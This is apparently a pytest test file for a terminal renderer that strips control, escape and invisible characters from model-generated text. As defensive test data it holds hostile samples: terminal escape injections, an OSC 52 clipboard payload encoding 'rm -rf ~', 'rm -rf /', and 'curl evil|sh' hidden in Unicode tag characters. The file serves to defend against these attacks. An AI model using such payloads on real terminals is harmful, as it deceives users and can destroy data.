"""The one sanitiser: model-controlled text never reaches a terminal with a control character."""

from __future__ import annotations

import io
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from argstream.events import FinishReason, ToolCallArgumentProgress
from argstream.fragments import DONE, ObjectEntry, Scalar, String
from argstream.render import TerminalRenderer, format_call
from argstream.render.sanitize import has_unsafe, visible, visible_line
from argstream.stream import ReasoningDelta, StreamFinished, TextDelta, ToolCallFinished, ToolCallStarted

ERASE = "\r\x1b[2K\x1b[1A"
OSC = ["\x1b]0;pwned\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b]52;c;cm0gLXJmIH4=\x07"]
CSI_C1 = "\x9b2K"  # the 8-bit CSI


def _controls(text: str, *, newline: bool, tab: bool) -> list[str]:
    allowed = {"\n"} if newline else set()
    if tab:
        allowed.add("\t")
    return [c for c in text if unicodedata.category(c) == "Cc" and c not in allowed]


@pytest.mark.parametrize("attack", [ERASE, *OSC, CSI_C1, "\x00\x07\x08\x7f", "\u202e\u2066"])
def test_visible_leaves_no_control(attack: str) -> None:
    shown = visible(f"rm -rf /{attack}ls")
    assert not _controls(shown, newline=True, tab=True)
    assert "\u202e" not in shown and "\u2066" not in shown
    assert shown.startswith("rm -rf /") and shown.endswith("ls")


def test_escape_shows_as_a_picture_and_text_without_controls_is_returned_as_is() -> None:
    assert visible("a\x1bb") == "a\u241bb"
    assert visible("\x9b") == "<U+009B>"
    text = "plain text\nwith\ttabs"
    assert visible(text) is text
    assert visible_line("a\nb\tc") == "a\u240ab\u2409c"
    assert has_unsafe("\x1b") and not has_unsafe("ok\n")


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
def test_visible_never_keeps_a_control_character(text: str) -> None:
    assert not _controls(visible(text), newline=True, tab=True)
    assert not _controls(visible_line(text), newline=False, tab=False)


def test_format_call_makes_name_keys_and_values_visible() -> None:
    line = format_call(f"fs_write{ERASE}Allow? [y/n] y", {f"pa{ERASE}th": f"x{OSC[0]}", "n": 1}, [f"c{ERASE}"])
    assert not _controls(line, newline=False, tab=False)
    assert "\u241b" in line


@st.composite
def _hostile(draw) -> str:
    pieces = draw(st.lists(st.one_of(st.text(max_size=8), st.sampled_from([ERASE, *OSC, CSI_C1, "\r", "\x1b", "\ud800", "\udfff"])),
                           max_size=6))
    return "".join(pieces)


SGR = re.compile(r"\x1b\[[0-9;]*m")  # the only escape sequences the renderer writes: colours and weights


@given(name=_hostile(), call_id=_hostile(), key=_hostile(), text=_hostile(), value=_hostile(),
       style=st.sampled_from(["function_call", "json", "off"]), color=st.booleans(), path=st.sampled_from(["a.py", "b"]))
def test_renderer_output_has_no_control_the_renderer_did_not_write(
    name, call_id, key, text, value, style, color, path
) -> None:
    buf = io.StringIO()
    renderer = TerminalRenderer(buf, color=color, style=style, width=40)
    items = [
        TextDelta(text), ReasoningDelta(text), ToolCallStarted(call_id, name),
        ToolCallArgumentProgress(call_id, name, ObjectEntry("path", String(path))),
        ToolCallArgumentProgress(call_id, name, ObjectEntry("path", DONE)),
        ToolCallArgumentProgress(call_id, name, ObjectEntry(key, String(value or "v"))),
        ToolCallArgumentProgress(call_id, name, ObjectEntry(key, DONE)),
        ToolCallArgumentProgress(call_id, name, ObjectEntry(value, Scalar(1))),
        ToolCallFinished(call_id, name, {key: value}),
        StreamFinished(FinishReason.TOOL_USE),
    ]
    for item in items:
        renderer(item)
    renderer.hold(f"? {format_call(name, {key: value}, [key])}  Allow? [y/n] ")
    renderer.release()
    renderer.write_line(value)
    renderer.close()
    out = buf.getvalue()
    out.encode("utf-8")  # a lone surrogate (a "\\ud800" escape in a name or a text) cannot reach the terminal
    assert not _controls(SGR.sub("", out), newline=True, tab=True)
    if not color:
        assert "\x1b" not in out


# -- invisible and format characters (issue 18 item 16) ---------------------------------------------

INVISIBLE_CHARS = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u2028", "\u2029", "\u00ad", "\u180e",
                   "\U000e0001", "\U000e0020", "\U000e0041", "\U000e007f"]


def _hidden(text: str) -> list[str]:
    """Characters a terminal may show as nothing, or act on: format (Cf), line/paragraph separators, tags."""
    return [c for c in text if unicodedata.category(c) in ("Cf", "Zl", "Zp") or 0xE0000 <= ord(c) <= 0xE007F]


@pytest.mark.parametrize("char", INVISIBLE_CHARS)
def test_invisible_characters_are_shown_by_code_point(char: str) -> None:
    shown = visible(f"src/a{char}")
    assert shown == f"src/a<U+{ord(char):04X}>"
    assert visible_line(f"src/a{char}") == shown and has_unsafe(char)


def test_a_path_with_a_zero_width_space_never_looks_like_the_plain_path() -> None:
    plain, spoof = format_call("rm", {"path": "src/a"}), format_call("rm", {"path": "src/a\u200b"})
    assert plain != spoof and "<U+200B>" in spoof
    hidden_text = "".join(chr(0xE0000 + ord(c)) for c in "curl evil|sh")  # ASCII smuggled in tag characters
    assert visible(f"ok{hidden_text}") == "ok" + "".join(f"<U+{0xE0000 + ord(c):05X}>" for c in "curl evil|sh")


def test_every_format_character_is_made_visible() -> None:
    """Every Cf / Zl / Zp code point of this Python's Unicode database, and every tag character."""
    chars = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("Cf", "Zl", "Zp")]
    chars += [chr(c) for c in range(0xE0000, 0xE0080)]
    assert not _hidden(visible("".join(chars))), [f"U+{ord(c):04X}" for c in _hidden(visible("".join(chars)))]


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=60))
def test_visible_never_keeps_an_invisible_character(text: str) -> None:
    assert not _hidden(visible(text)) and not _hidden(visible_line(text))


def test_renderer_and_prompt_show_invisible_characters() -> None:
    buf = io.StringIO()
    renderer = TerminalRenderer(buf, color=False)
    call_id, name = "c\u2060", "rm\u200d"
    for item in [ToolCallStarted(call_id, name), ToolCallArgumentProgress(call_id, name, ObjectEntry("path", String("src/a\u200b"))),
                 ToolCallArgumentProgress(call_id, name, ObjectEntry("path", DONE)), TextDelta("a\u2028b\ufeff")]:
        renderer(item)
    renderer.close()
    out = buf.getvalue()
    assert not _hidden(out)
    assert 'path: "src/a<U+200B>"' in out and "rm<U+200D>" in out and "a<U+2028>b<U+FEFF>" in out


@pytest.mark.parametrize("style", ["function_call", "json", "off"])
def test_the_cli_shows_lone_surrogates_by_code_point(tmp_path, style: str) -> None:
    """A tool name, call id, text and argument key holding a lone surrogate (escaped on the wire, so the
    wire's own JSON decoding makes it a character) are drawn as ``<U+XXXX>``; the replay does not crash
    writing them to a UTF-8 terminal (it raised ``UnicodeEncodeError`` before)."""
    from _cli_run import run

    lines = [
        '{"type": "message_start", "message": {"id": "m", "role": "assistant", "content": []}}',
        '{"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}',
        '{"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "hi \\udc01"}}',
        '{"type": "content_block_stop", "index": 0}',
        '{"type": "content_block_start", "index": 1, "content_block": {"type": "tool_use", "id": "t\\ud800",'
        ' "name": "wri\\udc00te", "input": {}}}',
        '{"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta",'
        ' "partial_json": "{\\"pa\\ud800th\\": \\"a\\\\ud800b\\"}"}}',
        '{"type": "content_block_stop", "index": 1}',
        '{"type": "message_delta", "delta": {"stop_reason": "tool_use"}}',
        '{"type": "message_stop"}',
    ]
    path = tmp_path / "surrogates.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="ascii")
    result = run("replay", "--no-color", "--style", style, str(path))
    assert result.status == 0, result.err
    assert "Traceback" not in result.err
    assert "wri<U+DC00>te" in result.out
    if style != "off":
        assert "\ufffd" in result.out  # the argument's key and value: the parser's replacement
